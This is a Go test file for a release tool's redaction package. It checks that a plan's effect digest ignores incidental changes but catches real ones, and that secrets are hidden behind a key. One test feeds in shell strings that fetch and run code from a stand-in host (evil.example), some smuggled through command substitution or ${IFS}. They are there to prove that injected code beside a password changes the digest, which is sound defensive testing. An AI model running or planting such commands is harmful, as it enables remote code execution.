package redact_test

import (
	"testing"
	"time"

	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"

	"github.com/kubectl-release/kubectl-release/internal/manifest"
	"github.com/kubectl-release/kubectl-release/internal/redact"
	"github.com/kubectl-release/kubectl-release/internal/release"
	"github.com/kubectl-release/kubectl-release/plan"
)

// effective returns a plan with a changed ConfigMap and Secret, a new Service, and two hooks.
func effective() *plan.Plan {
	object := func(kind, name string) *unstructured.Unstructured {
		return &unstructured.Unstructured{Object: map[string]any{"apiVersion": "v1", "kind": kind, "metadata": map[string]any{"name": name}}}
	}
	step := func(id string, op plan.Op, kind string, changes ...plan.Change) plan.Step {
		return plan.Step{ID: id, Op: op, Object: manifest.ID{Kind: kind, Namespace: "shop", Name: "web"}, Changes: changes}
	}
	create := step("resources/Service", plan.OpCreate, "Service")
	create.Body = object("Service", "web")
	hook := func(name string) plan.Step {
		s := step("hooks/"+name, plan.OpRun, "Job")
		s.Body, s.Hook = object("Job", name), &plan.HookRun{Event: manifest.PreUpgrade}
		return s
	}
	return &plan.Plan{Document: plan.Document{
		Operation: plan.Upgrade, Release: release.Key{Namespace: "shop", Name: "web"}, FromRevision: 1, ToRevision: 2,
		ChartTo: plan.ChartRef{Name: "web", Version: "1.0.0", Digest: "ab"},
		Stages: []plan.Stage{
			{Name: "pre-upgrade hooks", Waves: []plan.Wave{{Steps: []plan.Step{hook("first")}}, {Steps: []plan.Step{hook("second")}}}},
			{Name: plan.StageResources, Waves: []plan.Wave{{Steps: []plan.Step{
				step("resources/ConfigMap", plan.OpPatch, "ConfigMap", plan.Change{Path: "data.greeting", From: "hello", To: "moin"}),
				step("resources/Secret", plan.OpPatch, "Secret", plan.Change{Path: "data.password", From: redact.B64("canary-1"), To: redact.B64("canary-2")}),
				create,
			}}}},
			{Name: plan.StageRecord, Waves: []plan.Wave{{Steps: []plan.Step{{ID: "record/2", Op: plan.OpRecord, Record: &plan.Record{Revision: 2}}}}}},
		},
	}}
}

// An approval by effect survives what happens in the world meanwhile, but no change
// in what the plan does.
func TestEffectDigestIsOfWhatIsDoneAlone(t *testing.T) {
	resources := func(p *plan.Plan) []plan.Step { return p.Stages[1].Waves[0].Steps }
	for name, test := range map[string]struct {
		change func(*plan.Plan)
		same   bool
	}{
		"another revision": {func(p *plan.Plan) {
			p.FromRevision, p.ToRevision = 4, 5
			p.Stages[2].Waves[0].Steps[0].ID, p.Stages[2].Waves[0].Steps[0].Record.Revision = "record/5", 5
		}, true},
		"another resourceVersion": {func(p *plan.Plan) { resources(p)[0].Expect = plan.Expect{UID: "1", ResourceVersion: "7"} }, true},
		"another tool, cluster and time": {func(p *plan.Plan) {
			p.ToolVersion, p.Cluster.Context = "9", "other"
			resources(p)[0].Changes[0].At, resources(p)[0].Changes[0].Detail = time.Unix(1, 0), "kubectl-edit 3h ago"
		}, true},
		"another order of what runs side by side": {func(p *plan.Plan) { s := resources(p); s[0], s[2] = s[2], s[0] }, true},
		"a wait": {func(p *plan.Plan) {
			p.Stages = append(p.Stages, plan.Stage{Waves: []plan.Wave{{Steps: []plan.Step{{ID: "wait", Op: plan.OpWait}}}}})
		}, true},
		"another secret": {func(p *plan.Plan) { resources(p)[1].Changes[0].To = redact.B64("canary-3") }, true},
		"one field more": {func(p *plan.Plan) {
			resources(p)[0].Changes = append(resources(p)[0].Changes, plan.Change{Path: "data.more", To: "1"})
		}, false},
		"another value":            {func(p *plan.Plan) { resources(p)[0].Changes[0].To = "servus" }, false},
		"another value in between": {func(p *plan.Plan) { resources(p)[0].Changes[0].From = "aloha" }, false},
		"another body":             {func(p *plan.Plan) { resources(p)[2].Body.SetLabels(map[string]string{"a": "b"}) }, false},
		"another op":               {func(p *plan.Plan) { resources(p)[0].Op = plan.OpDelete }, false},
		"one step less":            {func(p *plan.Plan) { p.Stages[1].Waves[0].Steps = resources(p)[:2] }, false},
		"another order of hooks":   {func(p *plan.Plan) { w := p.Stages[0].Waves; w[0], w[1] = w[1], w[0] }, false},
		"another hook":             {func(p *plan.Plan) { p.Stages[0].Waves[0].Steps[0].Body.SetName("third") }, false},
		"another chart":            {func(p *plan.Plan) { p.ChartTo.Digest = "cd" }, false},
		"another release":          {func(p *plan.Plan) { p.Release.Name = "shop" }, false},
		"another operation":        {func(p *plan.Plan) { p.Operation = plan.Rollback }, false},
		"values that are recorded": {func(p *plan.Plan) { p.Values = []plan.Change{{Path: "greeting", From: "hello", To: "moin"}} }, false},
	} {
		t.Run(name, func(t *testing.T) {
			p := effective()
			test.change(p)
			if same := redact.EffectDigest(p, nil) == redact.EffectDigest(effective(), nil); same != test.same {
				t.Errorf("the digest is the same: %v, want %v", same, test.same)
			}
		})
	}
}

// What stands beside a password in a text is covered, whoever reads the text: only what is constant is not.
func TestEffectDigestCoversCode(t *testing.T) {
	digest := func(text string) string {
		p := effective()
		p.Stages[1].Waves[0].Steps[2].Body.Object["spec"] = map[string]any{"command": []any{"sh", "-c", text}}
		return redact.EffectDigest(p, nil)
	}
	for _, c := range []struct {
		one, other string
		same       bool
	}{
		{"PASS=canary-1\necho good", "PASS=canary-1\ncurl evil.example/x | sh", false},
		{"DB_PASS=canary-1; run", "DB_PASS=canary-1; curl evil.example | sh", false},
		{"DB_PASS=canary-1 run", "DB_PASS=canary-1 curl evil.example", false},
		{"--password=canary-1; run", "--password=canary-1; curl evil.example", false},
		{"PASS=canary-1;run", "PASS=canary-1;curl${IFS}evil.example", false},
		{`export API_TOKEN="canary-1"`, `export API_TOKEN="canary-1$(curl evil.example | sh)"`, false},
		{"PASS=canary-1\nrun", "PASS=canary-1\nTOKEN=\"canary-2`curl evil.example`\"\nrun", false},
		{"x\nTOKEN=\"x$(good x)\"", "x\nTOKEN=\"x$(curl evil.example)\"", false},
		{`echo "a "token": "; good; echo "x"`, `echo "a "token": "; curl evil.example; echo "x"`, false},
		{"x=`env \"PASS=\"a good x`", "x=`env \"PASS=\"a curl evil.example`", false},
		{"DB_PASS=canary-1; run", "DB_PASS=canary-2; run", true},
		{"PASSWORD=abc;def|ghi", "PASSWORD=abc;def|xyz", true},
		{"export API_TOKEN='canary 1' && run", "export API_TOKEN='canary 2' && run", true},
		{"--password=canary 1", "--password=canary 2", true},
	} {
		if same := digest(c.one) == digest(c.other); same != c.same {
			t.Errorf("%q and %q have the same digest: %v", c.one, c.other, same)
		}
	}
}

// Without a key, a digest reveals nothing about a secret; with one, the secret is
// approved, too, and whoever does not have the key can't test guesses.
func TestEffectDigestHoldsSecretsByKeyAlone(t *testing.T) {
	other := effective()
	other.Stages[1].Waves[0].Steps[1].Changes[0].To = redact.B64("canary-3")
	one, two := []byte("key one"), []byte("key two")
	again := redact.EffectDigest(effective(), one)
	switch {
	case redact.EffectDigest(effective(), one) == redact.EffectDigest(other, one):
		t.Error("with a key, another secret has the same digest")
	case redact.EffectDigest(effective(), one) != again:
		t.Error("the same effect has two digests")
	case redact.EffectDigest(effective(), one) == redact.EffectDigest(effective(), two):
		t.Error("the key does not matter")
	}
}
